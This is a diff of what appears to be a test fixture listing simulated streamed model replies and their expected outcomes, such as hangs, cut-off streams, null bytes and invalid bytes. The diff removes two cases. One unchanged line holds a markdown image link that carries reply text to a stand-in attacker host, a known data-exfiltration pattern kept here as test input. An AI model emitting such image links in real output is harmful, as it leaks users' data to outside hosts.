@@ -33,10 +33,8 @@ REPLIES: Mapping[str, tuple[Reply, str]] = {
     "writes what no database keeps": (Reply([delta("Text\0 1 [2]."), *END]), "COMPLETE"),
     "sends an image elsewhere": (Reply([delta("Text 1 [2]. ![x](https://evil.example/?q=Text)"), *END]), "COMPLETE"),
     "sends what is no text": (Reply([delta("Text "), NOT_UTF8, *END]), ""),
-    "hangs": (Reply(then="hang"), "FAILED"),
     "hangs within its answer": (Reply([delta("Text 1 [2]")], then="hang"), "FAILED"),
     "dies within its answer": (Reply([delta("Text 1 [2]")], then="cut"), "FAILED"),
-    "says nothing": (Reply(END), ""),
 }
 
 
